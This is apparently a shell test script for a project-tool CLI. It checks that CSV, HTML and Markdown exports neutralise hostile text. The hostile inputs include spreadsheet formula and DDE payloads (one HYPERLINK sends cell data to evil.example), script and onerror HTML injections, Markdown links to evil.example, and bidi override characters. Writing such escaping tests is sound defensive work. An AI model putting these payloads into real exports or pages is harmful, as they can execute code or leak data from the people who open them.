#!/bin/bash
# Exports escape for their target. Projects, an organisation and an action item
# carry hostile text (formula injection, HTML and script tags, Markdown syntax,
# table pipes, line breaks, bidi and control characters); each export is read
# back with a real parser: python3's csv module (no cell a spreadsheet would
# take for a formula; the text comes back once the apostrophe is stripped),
# html.parser (no element or attribute from data) and cmark-gfm, the GitHub
# Markdown parser (no link, emphasis, code, heading or extra table cell from
# data). docs/export-formats.md.
. "$(dirname "$0")/../cli/lib.sh"
command -v cmark-gfm >/dev/null || { echo "cmark-gfm is not installed: skipping"; exit 77; }

oz init --demo >/dev/null || fail "init --demo"
# the hostile texts, one per line (tab and CR written as \t and \r)
cat >"$TMP/titles" <<'EOF'
=HYPERLINK("http://evil.example/?x="&A1,"klick")
+cmd|' /C calc'!A0
-1+1
@SUM(1+1)*cmd|' /C calc'!A0
\t=1+1 nach Tab
\r=1+1 nach CR
<script>alert(1)</script>
<img src=x onerror=alert(2)>
&amp; &lt;b&gt; "doppelt" 'einfach'
| Spalte | in | Titel |
*fett* _kursiv_ ~~durch~~ **sehr**
[klick](http://evil.example) ![bild](http://evil.example/i.png) <http://evil.example>
`code` und ``mehr``
# Überschrift
Zeile eins\nZeile zwei | mit Pipe
\\Rückstrich\\ und \* schon escaped
Spiegel \u202eLEGEIPS\u202c Ende
EOF
nums=()
while IFS= read -r t; do
	t=$(printf '%b' "$t")   # \t \r \n \\ as the characters
	n=$(oz add --title "$t" --field 2 --lead 05711000 --service 10000) || fail "add: $t"
	oz edit "$n" --notes "$t" --add-department "$t" --planned entscheidung=2024-01-01 >/dev/null ||
		fail "edit: $t"
	oz move "$n" workshop >/dev/null || fail "move: $t"
	nums+=("$n")
done <"$TMP/titles"
oz outcome add - --kind action --text '=HYPERLINK("http://evil.example")' \
	--owner '<b>Chef</b> | *x*' --due 2024-01-01 --project "${nums[0]}" >/dev/null ||
	fail "outcome add"
printf '%s\n' "${nums[@]}" >"$TMP/nums"
# what the database holds (add trims a title's blanks, tab and CR among them)
oz export --format json -o "$TMP/all.json" || fail "export --format json"

# ---- CSV: every table ------------------------------------------------------
for table in projects teams services outcomes workshops organisations history; do
	expect_status 0 -- oz export --format csv --table "$table" -o "$TMP/$table.csv"
done
python3 - "$TMP" <<'PY' || fail "CSV export: formula injection or lost text"
import csv, sys
tmp = sys.argv[1]
def unescape(l):
    return l.replace("\\\\", "\0").replace("\\t", "\t").replace("\\r", "\r").replace(
        "\\n", "\n").replace("\\u202e", "\u202e").replace("\\u202c", "\u202c").replace("\0", "\\")
titles = [unescape(l.rstrip("\n")) for l in open(f"{tmp}/titles", encoding="utf-8")]
nums = [int(l) for l in open(f"{tmp}/nums")]
bad = 0
def unquote(s):
    return s[1:] if s[:1] == "'" and s[1:2] in ("=", "+", "-", "@", "\t", "\r") else s
for table in ("projects", "teams", "services", "outcomes", "workshops", "organisations", "history"):
    with open(f"{tmp}/{table}.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f, strict=True))
    width = len(rows[0])
    for r in rows[1:]:
        if len(r) != width:
            print(f"{table}: a row with {len(r)} cells, not {width}: {r[:3]}", file=sys.stderr)
            bad += 1
        for cell in r:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                print(f"{table}: a cell a spreadsheet takes for a formula: {cell!r}", file=sys.stderr)
                bad += 1
with open(f"{tmp}/projects.csv", newline="", encoding="utf-8") as f:
    by_number = {int(r["number"]): r for r in csv.DictReader(f)}
import json
stored = {p["number"]: p for p in json.load(open(f"{tmp}/all.json", encoding="utf-8"))["projects"]}
for n, t in zip(nums, titles):
    got = by_number[n]
    for col, want in (("title", stored[n]["title"]), ("notes", t),
                      ("departments", "; ".join(stored[n]["departments"]))):
        if unquote(got[col]) != want:
            print(f"projects #{n} {col}: {got[col]!r} is not {want!r}", file=sys.stderr)
            bad += 1
sys.exit(1 if bad else 0)
PY

# ---- HTML ---------------------------------------------------------------------
expect_status 0 -- oz export --format html -o "$TMP/report.html"
python3 - "$TMP/report.html" "$TMP/titles" <<'PY' || fail "HTML export: markup from data"
import html.parser, sys
page = open(sys.argv[1], encoding="utf-8").read()
titles = [l.rstrip("\n") for l in open(sys.argv[2], encoding="utf-8")]
bad = []
class P(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.text = []
        self.tags = set()
    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        if tag in ("script", "img", "iframe", "object", "embed", "form", "input", "b"):
            bad.append(f"<{tag}> in the page")
        for k, v in attrs:
            if k.startswith("on"):
                bad.append(f"attribute {k}={v!r} on <{tag}>")
            if k in ("href", "src") and v and not v.startswith("#"):
                bad.append(f"{k}={v!r} on <{tag}>: leads out of the page")
    def handle_data(self, d):
        self.text.append(d)
p = P()
p.feed(page)
p.close()
text = "".join(p.text)
for t in ("<script>alert(1)</script>", "<img src=x onerror=alert(2)>", '&amp; &lt;b&gt; "doppelt" \'einfach\'',
          '=HYPERLINK("http://evil.example/?x="&A1,"klick")'):
    if t not in text:
        bad.append(f"the text {t!r} is not shown as text")
for b in bad:
    print("report.html:", b, file=sys.stderr)
sys.exit(1 if bad else 0)
PY

# Reports for people hold no bidirectional override (it would reorder the text).
for f in report.html; do
	python3 -c 'import sys; t = open(sys.argv[1], encoding="utf-8").read(); sys.exit(any(c in t for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"))' \
		"$TMP/$f" || fail "$f holds a bidirectional control"
done

# ---- Markdown (GitHub Flavored, with tables) ----------------------------------
expect_status 0 -- oz export --format md -o "$TMP/report.md"
cmark-gfm -e table -e strikethrough -e autolink -e tagfilter -t html "$TMP/report.md" >"$TMP/report.md.html" ||
	fail "cmark-gfm"
python3 -c 'import sys; t = open(sys.argv[1], encoding="utf-8").read(); sys.exit(any(c in t for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"))' \
	"$TMP/report.md" || fail "report.md holds a bidirectional control"
python3 - "$TMP/report.md" "$TMP/report.md.html" <<'PY' || fail "Markdown export: markup from data"
import html.parser, re, sys
md = open(sys.argv[1], encoding="utf-8").read()
out = open(sys.argv[2], encoding="utf-8").read()
bad = []
# Words only the hostile data holds: markup around them was made from data.
MARKERS = ("fett", "kursiv", "durch", "sehr", "code", "mehr", "Überschrift", "klick", "bild",
           "Chef", "Spalte", "alert", "Titel")
import urllib.parse
class P(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.text = []
        self.open = []   # [tag, attrs, text] of the markup elements open now
    def handle_starttag(self, tag, attrs):
        if tag in ("img", "script", "b", "iframe"):
            bad.append(f"<{tag}> made from data: {attrs}")
        if tag in ("a", "em", "strong", "del", "code", "pre", "h1", "h2", "h3", "h4", "h5", "h6"):
            self.open.append([tag, dict(attrs), ""])
        if tag in ("h2", "h3", "h4", "h5", "h6", "p", "td", "th", "li"):
            self.text.append("\n")
    def handle_endtag(self, tag):
        if self.open and self.open[-1][0] == tag:
            t, attrs, inner = self.open.pop()
            href = attrs.get("href", "")
            if t == "a" and not href.startswith("#") and urllib.parse.unquote(href) != inner:
                bad.append(f"a link to {href!r} behind the text {inner!r}")
            elif t != "a" and any(m in inner for m in MARKERS):
                bad.append(f"<{t}> around data: {inner!r}")
    def handle_data(self, d):
        self.text.append(d)
        for o in self.open:
            o[2] += d
p = P()
p.feed(out)
text = "".join(p.text)
# every table: its rows as wide as its header (a pipe in data adds no cell)
for block in re.split(r"\n\s*\n", md):
    lines = [l for l in block.split("\n") if l.startswith("|")]
    if len(lines) < 2:
        continue
    def cells(l):
        return len(re.findall(r"(?<!\\)\|", l)) - 1
    for l in lines[2:]:
        if cells(l) != cells(lines[0]):
            bad.append(f"a table row with {cells(l)} cells, not {cells(lines[0])}: {l[:80]}")
# (GFM makes a bare URL a link showing that URL, which hides nothing: the
# check above only refuses a link whose text is not its target.)
for t in ("<script>alert(1)</script>", "*fett* _kursiv_ ~~durch~~ **sehr**",
          "[klick](http://evil.example) ![bild](http://evil.example/i.png)",
          "`code` und ``mehr``", "| Spalte | in | Titel |", "# Überschrift"):
    if t not in text:
        bad.append(f"the text {t!r} does not come back as text")
for b in bad:
    print("report.md:", b, file=sys.stderr)
sys.exit(1 if bad else 0)
PY
finish
